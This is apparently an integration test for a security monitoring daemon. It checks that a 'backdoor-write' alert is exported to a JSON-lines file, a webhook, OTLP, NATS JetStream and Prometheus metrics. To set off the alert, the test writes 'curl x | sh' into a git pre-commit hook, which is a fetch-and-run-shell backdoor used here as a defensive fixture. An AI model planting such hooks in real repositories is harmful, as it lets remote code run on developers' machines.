/**
 * Exporters against real receivers: a session that raises an alert under a
 * running daemon reaches a JSON-lines file, a webhook, a local OTLP/HTTP
 * receiver (logs, and a trace for the session), a local nats-server's
 * JetStream, and the Prometheus metrics.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { connect, JSONCodec } from 'nats';
import { needKernel, startDaemon, stateDir, tempDir, warden } from './helpers.js';

async function receiver(): Promise<{ url: string; got: Map<string, string[]>; server: Server }> {
  const got = new Map<string, string[]>();
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      got.set(req.url ?? '', [...(got.get(req.url ?? '') ?? []), body]);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, got, server };
}

const until = async (what: () => boolean, ms = 15000): Promise<boolean> => {
  for (let t = 0; t < ms && !what(); t += 100) await new Promise((r) => setTimeout(r, 100));
  return what();
};

test('a session with an alert reaches JSON lines, a webhook, OTLP, NATS JetStream and the metrics', async (t) => {
  if (!needKernel(t)) return;
  const state = stateDir('export');
  const work = tempDir('export');
  const otlp = await receiver();
  const hook = await receiver();
  const natsPort = 20000 + Math.floor(Math.random() * 20000);
  const natsDir = join(work.path, 'nats');
  mkdirSync(natsDir);
  const nats = spawn('nats-server', ['-js', '-a', '127.0.0.1', '-p', String(natsPort), '-sd', natsDir], {
    stdio: 'ignore',
  });
  t.after(async () => {
    nats.kill('SIGTERM');
    otlp.server.close();
    hook.server.close();
    state.cleanup();
    work.cleanup();
  });
  for (let i = 0; i < 50; i++) {
    const nc = await connect({ servers: `nats://127.0.0.1:${natsPort}` }).catch(() => undefined);
    if (nc) {
      await nc.close();
      break;
    }
    await new Promise((r) => setTimeout(r, 100));
  }
  const jsonl = join(work.path, 'out.jsonl');
  const daemon = await startDaemon(state.path, [
    '--jsonl',
    jsonl,
    '--otlp',
    otlp.url,
    '--webhook',
    `${hook.url}/alert`,
    '--nats',
    `nats://127.0.0.1:${natsPort}`,
  ]);
  t.after(() => daemon.stop());

  /* a git hook written: backdoor-write */
  const ws = join(work.path, 'ws');
  mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
  const run = warden(state.path, [
    'run',
    '-q',
    '--no-policy',
    '-w',
    ws,
    '--',
    'sh',
    '-c',
    `echo 'curl x | sh' > ${ws}/.git/hooks/pre-commit`,
  ]);
  assert.equal(run.status, 0, run.stderr);
  const session = (JSON.parse(warden(state.path, ['sessions', '--json', '-n', '1']).stdout.trim()) as { id: string })
    .id;

  assert.ok(
    await until(() => (hook.got.get('/alert') ?? []).some((b) => b.includes('backdoor-write'))),
    'webhook got the alert',
  );
  assert.ok(
    await until(() => existsSync(jsonl) && readFileSync(jsonl, 'utf8').includes('"kind":"alert"')),
    'JSON lines',
  );
  const lines = readFileSync(jsonl, 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as { kind: string; type?: string });
  assert.ok(lines.some((l) => l.kind === 'event' && l.type === 'exec'));
  assert.ok(
    await until(() => (otlp.got.get('/v1/logs') ?? []).join('').includes('backdoor-write')),
    'OTLP logs carry the alert',
  );
  assert.ok(
    await until(() => (otlp.got.get('/v1/traces') ?? []).join('').includes(session)),
    'OTLP trace for the session',
  );

  const nc = await connect({ servers: `nats://127.0.0.1:${natsPort}` });
  try {
    const jsm = await nc.jetstreamManager();
    assert.ok(await until(() => true));
    const si = await jsm.streams.info('WARDEN');
    assert.ok(si.state.messages > 0, 'messages are in the JetStream stream');
    const alert = await jsm.streams.getMessage('WARDEN', { last_by_subj: `warden.alerts.${session}` });
    assert.equal((JSONCodec().decode(alert.data) as { detector: string }).detector, 'backdoor-write');
  } finally {
    await nc.close();
  }

  const headers = { authorization: `Bearer ${daemon.token}` };
  const metrics = await (await fetch(`${daemon.url}/api/metrics`, { headers })).text();
  assert.match(metrics, /warden_events_total\{type="exec"\} [1-9]/);
  assert.match(metrics, /warden_alerts_total\{detector="backdoor-write",severity="high"\} 1/);
  assert.match(metrics, /warden_events_lost_total 0/);
  /* the session was hosted by the daemon: its sensor's own counters are live */
  assert.match(metrics, /warden_sensor_events_read_total [1-9]/);
  assert.match(metrics, /warden_sensor_events_lost_total 0/);
});
